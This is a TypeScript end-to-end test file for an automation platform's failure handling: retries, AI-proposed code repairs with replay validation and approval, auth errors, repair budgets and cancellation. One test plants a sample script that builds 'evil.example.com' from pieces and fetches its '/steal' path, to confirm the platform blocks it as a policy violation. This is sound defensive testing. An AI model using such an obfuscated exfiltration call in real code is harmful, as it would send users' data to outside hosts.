import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Api, apiClient, waitForRun } from './support/client';
import { type Stack, startStack } from './support/stack';
import { json, type StandIn, startStandIn } from './support/stand-ins';

// Failure handling end to end: real API and worker processes, PostgreSQL and Redis, a local HTTP
// server standing in for the outside services and another for an OpenAI-compatible endpoint.
let stack: Stack;
let api: Api;
let service: StandIn;
let completions: StandIn;
let host: string;

/** What the stand-in service answers, per path, in order; the last answer repeats. */
const scripts = new Map<string, { status: number; body: unknown }[]>();
/** Candidates the completions stand-in proposes, chosen by a marker in the failing script. */
const candidates = new Map<string, string>();

async function createAutomation(name: string, source: string, manifest: Record<string, unknown> = {}) {
  const { status, body } = await api('POST', '/api/v1/automations', {
    name,
    source,
    manifest: { permissions: { hosts: [host] }, ...manifest },
  });
  expect(status, JSON.stringify(body)).toBe(201);
  return body as { id: string };
}

async function start(automationId: string, input: unknown = {}) {
  const { status, body } = await api('POST', `/api/v1/automations/${automationId}/runs`, { input });
  expect(status).toBe(202);
  return body.id as string;
}

async function events(runId: string) {
  return (await api('GET', `/api/v1/runs/${runId}/events`)).body.items as {
    seq: number;
    type: string;
    data: any;
  }[];
}

async function openInbox(runId: string) {
  return (await api('GET', `/api/v1/inbox?runId=${runId}`)).body.items as {
    id: string;
    kind: string;
    actions: string[];
    reason: string;
  }[];
}

beforeAll(async () => {
  service = await startStandIn((request, _body, response) => {
    const path = (request.url ?? '/').split('?')[0]!;
    if (path === '/slow') {
      const timer = setTimeout(() => json(response, 200, { late: true }), 20_000);
      response.on('close', () => clearTimeout(timer));
      return;
    }
    if (path === '/secure') {
      const ok = request.headers.authorization === 'Bearer good-token';
      return json(response, ok ? 200 : 401, ok ? { ok: true } : { error: 'invalid token' });
    }
    const answers = scripts.get(path);
    if (!answers) return json(response, 404, { error: 'no such path' });
    const answer = answers.length > 1 ? answers.shift()! : answers[0]!;
    json(response, answer.status, answer.body);
  });
  completions = await startStandIn((_request, body, response) => {
    const prompt = JSON.stringify(JSON.parse(body).messages);
    const marker = [...candidates.keys()].find((key) => prompt.includes(key));
    const source = marker
      ? candidates.get(marker)!
      : "export default async function run() { throw new TypeError('the stand-in has no fix for this script'); }";
    json(response, 200, {
      model: 'stand-in-1',
      choices: [
        {
          message: { role: 'assistant', content: JSON.stringify({ source, explanation: `fixed ${marker}` }) },
        },
      ],
      usage: { prompt_tokens: 120, completion_tokens: 40 },
    });
  });
  host = service.url.replace('http://', '');
  stack = await startStack('failures', {
    redisDb: 10,
    workerEnv: {
      ALLOW_PRIVATE_NETWORK: 'true',
      REPAIR_PROVIDER: 'openai',
      REPAIR_BASE_URL: `${completions.url}/v1`,
      REPAIR_MODEL: 'stand-in-1',
      REPAIR_PRICE_INPUT_PER_MTOK: '2.5',
      REPAIR_PRICE_OUTPUT_PER_MTOK: '10',
    },
  });
  api = apiClient(stack.apiUrl);
});

afterAll(async () => {
  await stack?.stop();
  await service?.close();
  await completions?.close();
});

describe('failure handling', () => {
  it('transient: 503 twice, then 200 → two retries with growing delays → succeeded', async () => {
    scripts.set('/flaky', [
      { status: 503, body: { error: 'busy' } },
      { status: 503, body: { error: 'busy' } },
      { status: 200, body: { value: 42 } },
    ]);
    const automation = await createAutomation(
      'flaky',
      `export default async function run(input, ctx) {
         const res = await ctx.fetch('${service.url}/flaky');
         if (!res.ok) throw new Error('flaky answered ' + res.status);
         return (await res.json()).value;
       }`,
      { retry: { maxAttempts: 4, backoff: { baseMs: 200, maxMs: 5000, jitter: false } } },
    );
    const run = await waitForRun(
      api,
      await start(automation.id),
      ['succeeded', 'failed', 'action_needed'],
      30_000,
    );
    expect(run.status).toBe('succeeded');
    expect(run.output).toBe(42);
    expect(run.attempts.map((a: { status: string }) => a.status)).toEqual(['failed', 'failed', 'succeeded']);
    expect(run.attempts[0].classification.class).toBe('transient');
    const retries = (await events(run.id)).filter((e) => e.type === 'run.retry_scheduled');
    expect(retries).toHaveLength(2);
    expect(retries[1]!.data.delayMs).toBeGreaterThan(retries[0]!.data.delayMs);
    expect(retries[0]!.data.classification.class).toBe('transient');
  });

  it('logic: a renamed field is repaired, replay-tested, deployed as version 2 and the run resumes without repeating its step', async () => {
    scripts.set('/charge', [{ status: 200, body: { chargeId: 'ch_1' } }]);
    scripts.set('/customer', [{ status: 200, body: { fullName: 'Ada Lovelace' } }]);
    const broken = `// crm-renamed-field
export default async function run(input, ctx) {
  const chargeId = await ctx.step('charge', async () => {
    const res = await ctx.fetch('${service.url}/charge', { method: 'POST' });
    return (await res.json()).chargeId;
  });
  const customer = await (await ctx.fetch('${service.url}/customer')).json();
  return { chargeId, greeting: 'Hello ' + customer.name.toUpperCase() };
}`;
    candidates.set(
      'crm-renamed-field',
      broken.replace('customer.name.toUpperCase()', 'customer.fullName.toUpperCase()'),
    );
    const automation = await createAutomation('crm-renamed-field', broken, { repair: { maxPerDay: 3 } });
    const runId = await start(automation.id);
    const run = await waitForRun(api, runId, ['succeeded', 'failed', 'action_needed'], 45_000);
    expect(run.status, JSON.stringify(await events(runId))).toBe('succeeded');
    expect(run.output).toEqual({ chargeId: 'ch_1', greeting: 'Hello ADA LOVELACE' });
    expect(run.attempts[0].classification.class).toBe('logic');
    expect(run.attempts.map((a: { versionNumber: number }) => a.versionNumber)).toEqual([1, 2]);
    // The step before the failure ran once: its stored result was reused after the repair.
    expect(service.hits.get('/charge')).toBe(1);

    const detail = (await api('GET', `/api/v1/automations/${automation.id}`)).body;
    expect(detail.deployedVersion).toMatchObject({ number: 2, createdBy: { kind: 'repair' } });
    const repairs = (await api('GET', `/api/v1/repairs?runId=${runId}`)).body.items;
    expect(repairs).toHaveLength(1);
    const repair = (await api('GET', `/api/v1/repairs/${repairs[0].id}`)).body;
    expect(repair).toMatchObject({
      status: 'deployed',
      provider: 'openai',
      model: 'stand-in-1',
      tokens: { total: 160 },
    });
    expect(repair.costUsd).toBeCloseTo((120 * 2.5 + 40 * 10) / 1e6, 10);
    expect(repair.diff).toContain(
      "+  return { chargeId, greeting: 'Hello ' + customer.fullName.toUpperCase() };",
    );
    expect(repair.validation.passed).toBe(true);
    expect(repair.prompt).toBeTruthy();

    const timeline = (await events(runId)).map((e) => e.type);
    expect(timeline).toEqual([
      'run.queued',
      'run.running',
      'run.repairing',
      'repair.proposed',
      'repair.validated',
      'repair.deployed',
      'run.running',
      'run.succeeded',
    ]);
    // The audit log names the repair as the one who proposed and deployed the fix.
    const audit = (await api('GET', `/api/v1/audit?targetKind=automation&targetId=${automation.id}`)).body
      .items;
    expect(audit.find((e: { action: string }) => e.action === 'repair.deployed')).toMatchObject({
      actor: { kind: 'repair', id: repairs[0].id },
      data: { repairId: repairs[0].id, runId, version: 2, fromVersion: 1 },
    });
    const proposed = (await api('GET', `/api/v1/audit?action=repair.proposed&targetId=${runId}`)).body.items;
    expect(proposed).toEqual([
      expect.objectContaining({
        actor: expect.objectContaining({ kind: 'repair' }),
        target: { kind: 'run', id: runId },
      }),
    ]);
  });

  it('requireApproval: a validated repair waits in the inbox with its diff, and approving deploys it and resumes', async () => {
    scripts.set('/invoice', [{ status: 200, body: { totalCents: 1250 } }]);
    const broken = `// approval-needed-fix
export default async function run(input, ctx) {
  const invoice = await (await ctx.fetch('${service.url}/invoice')).json();
  return { euros: invoice.total.toFixed(2) };
}`;
    candidates.set(
      'approval-needed-fix',
      broken.replace('invoice.total.toFixed(2)', '(invoice.totalCents / 100).toFixed(2)'),
    );
    const automation = await createAutomation('approval-needed-fix', broken, {
      repair: { requireApproval: true },
    });
    const run = await waitForRun(api, await start(automation.id), undefined, 45_000);
    expect(run.status).toBe('action_needed');
    const [item] = (await api('GET', `/api/v1/inbox?runId=${run.id}`)).body.items;
    expect(item).toMatchObject({ kind: 'repair_approval', actions: ['approve', 'reject', 'cancel'] });
    expect(item.evidence.diff).toContain('+  return { euros: (invoice.totalCents / 100).toFixed(2) };');
    expect((await api('GET', `/api/v1/automations/${automation.id}`)).body.deployedVersion.number).toBe(1);

    const approved = await api('POST', `/api/v1/inbox/${item.id}/resolve`, {
      action: 'approve',
      comment: 'looks right',
    });
    expect(approved.status, JSON.stringify(approved.body)).toBe(200);
    const after = await waitForRun(api, run.id, ['succeeded', 'failed'], 20_000);
    expect(after.output).toEqual({ euros: '12.50' });
    const detail = (await api('GET', `/api/v1/automations/${automation.id}`)).body;
    expect(detail.deployedVersion).toMatchObject({ number: 2, createdBy: { kind: 'repair' } });
    const types = (await events(run.id)).map((e) => e.type);
    expect(types).toEqual([
      'run.queued',
      'run.running',
      'run.repairing',
      'repair.proposed',
      'repair.validated',
      'run.action_needed',
      'inbox.resolved',
      'repair.deployed',
      'run.running',
      'run.succeeded',
    ]);
    // Who approved it, and that the deploy was theirs, are in the audit log.
    const me = (await api('GET', '/api/v1/me')).body.user;
    const resolution = (await api('GET', `/api/v1/audit?action=inbox.approve&targetId=${item.id}`)).body
      .items;
    expect(resolution).toEqual([
      expect.objectContaining({
        actor: { kind: 'user', id: me.id, email: me.email },
        data: expect.objectContaining({ runId: run.id, comment: 'looks right' }),
      }),
    ]);
    const deployed = (await api('GET', `/api/v1/audit?action=repair.deployed&targetId=${automation.id}`)).body
      .items;
    expect(deployed).toEqual([
      expect.objectContaining({ actor: expect.objectContaining({ kind: 'user', id: me.id }) }),
    ]);
  });

  it('a candidate that still fails replay → repair_failed inbox item, nothing deployed', async () => {
    scripts.set('/profile', [{ status: 200, body: { fullName: 'Grace Hopper' } }]);
    const broken = `// still-broken-candidate
export default async function run(input, ctx) {
  const profile = await (await ctx.fetch('${service.url}/profile')).json();
  return profile.name.trim();
}`;
    candidates.set(
      'still-broken-candidate',
      broken.replace('profile.name.trim()', 'profile.nickname.trim()'),
    );
    const automation = await createAutomation('still-broken-candidate', broken);
    const run = await waitForRun(api, await start(automation.id), undefined, 45_000);
    expect(run.status).toBe('action_needed');
    const [item] = await openInbox(run.id);
    expect(item).toMatchObject({ kind: 'repair_failed', actions: ['retry', 'cancel'] });
    expect(item!.reason).toMatch(/still fails/);
    const detail = (await api('GET', `/api/v1/automations/${automation.id}`)).body;
    expect(detail.deployedVersion.number).toBe(1);
    const repairs = (await api('GET', `/api/v1/repairs?automationId=${automation.id}`)).body.items;
    expect(repairs[0]).toMatchObject({ status: 'failed' });
    const kept = (await api('GET', `/api/v1/repairs/${repairs[0].id}`)).body;
    expect(kept.candidateSource).toContain('profile.nickname');
    expect(kept.validation.passed).toBe(false);
  });

  it('auth: 401 → auth_required → secret updated → resolve retry → succeeded', async () => {
    expect((await api('PUT', '/api/v1/secrets/CRM_TOKEN', { value: 'bad-token' })).status).toBe(200);
    const automation = await createAutomation(
      'secure-crm',
      `export default async function run(input, ctx) {
         const token = await ctx.secrets.get('CRM_TOKEN');
         const res = await ctx.fetch('${service.url}/secure', { headers: { authorization: 'Bearer ' + token } });
         if (!res.ok) throw new Error('crm answered ' + res.status);
         return await res.json();
       }`,
      { permissions: { hosts: [host], secrets: ['CRM_TOKEN'] } },
    );
    const run = await waitForRun(api, await start(automation.id));
    expect(run.status).toBe('action_needed');
    expect(run.attempts[0].classification.class).toBe('auth');
    const [item] = await openInbox(run.id);
    expect(item).toMatchObject({ kind: 'auth_required', actions: ['retry', 'cancel'] });
    expect(JSON.stringify(item)).not.toContain('bad-token');

    expect((await api('PUT', '/api/v1/secrets/CRM_TOKEN', { value: 'good-token' })).status).toBe(200);
    const resolved = await api('POST', `/api/v1/inbox/${item!.id}/resolve`, {
      action: 'retry',
      comment: 'rotated the token',
    });
    expect(resolved.status, JSON.stringify(resolved.body)).toBe(200);
    expect(resolved.body.resolution).toMatchObject({ action: 'retry', comment: 'rotated the token' });
    const after = await waitForRun(api, run.id, ['succeeded', 'failed'], 20_000);
    expect(after.status).toBe('succeeded');
    expect(after.output).toEqual({ ok: true });
    expect(await openInbox(run.id)).toEqual([]);
    const types = (await events(run.id)).map((e) => e.type);
    expect(types).toEqual([
      'run.queued',
      'run.running',
      'run.action_needed',
      'inbox.resolved',
      'run.queued',
      'run.running',
      'run.succeeded',
    ]);
    const again = await api('POST', `/api/v1/inbox/${item!.id}/resolve`, { action: 'retry' });
    expect(again.status).toBe(409);
    expect(again.body.error.code).toBe('INBOX_ITEM_RESOLVED');
  });

  it('policy: a fetch to an undeclared host → policy_violation, never repaired', async () => {
    const automation = await createAutomation(
      'exfiltrate',
      `export default async function run(input, ctx) {
         const target = ['evil', 'example', 'com'].join('.');
         return (await ctx.fetch('https://' + target + '/steal')).status;
       }`,
    );
    const run = await waitForRun(api, await start(automation.id));
    expect(run.status).toBe('action_needed');
    expect(run.attempts[0].classification.class).toBe('policy');
    const [item] = await openInbox(run.id);
    expect(item!.kind).toBe('policy_violation');
    expect(item!.reason).toContain('evil.example.com');
    expect((await api('GET', `/api/v1/repairs?automationId=${automation.id}`)).body.items).toEqual([]);
  });

  it('budget: a logic failure over repair.maxPerDay escalates instead of repairing', async () => {
    const automation = await createAutomation(
      'over-budget',
      `export default async function run(input, ctx) { return input.user.name; }`,
      { repair: { maxPerDay: 0 } },
    );
    const run = await waitForRun(api, await start(automation.id, {}));
    expect(run.status).toBe('action_needed');
    expect(run.attempts[0].classification.class).toBe('logic');
    const [item] = await openInbox(run.id);
    expect(item!.kind).toBe('repair_failed');
    expect(item!.reason).toMatch(/budget/);
    expect((await api('GET', `/api/v1/repairs?automationId=${automation.id}`)).body.items).toEqual([]);
  });

  it('cancel stops a running attempt promptly, and retry runs it again', async () => {
    const automation = await createAutomation(
      'slow',
      `export default async function run(input, ctx) {
         const res = await ctx.fetch('${service.url}/slow');
         return res.status;
       }`,
      { limits: { timeoutMs: 60000 } },
    );
    const runId = await start(automation.id);
    await waitForRun(api, runId, ['running'], 10_000);
    const began = Date.now();
    const cancelled = await api('POST', `/api/v1/runs/${runId}/cancel`);
    expect(cancelled.status).toBe(200);
    expect(cancelled.body.status).toBe('cancelled');
    for (;;) {
      const attempts = (await api('GET', `/api/v1/runs/${runId}`)).body.attempts;
      if (attempts[0].status !== 'running') break;
      expect(Date.now() - began).toBeLessThan(5000);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    const again = await api('POST', `/api/v1/runs/${runId}/cancel`);
    expect(again.status).toBe(409);
    expect(again.body.error.code).toBe('RUN_NOT_CANCELLABLE');
    const retried = await api('POST', `/api/v1/runs/${runId}/retry`);
    expect(retried.status).toBe(202);
    // A worker may already have picked it up by the time the answer is written.
    expect(['queued', 'running']).toContain(retried.body.status);
    expect(retried.body.attemptCount).toBeGreaterThanOrEqual(1);
  });
});
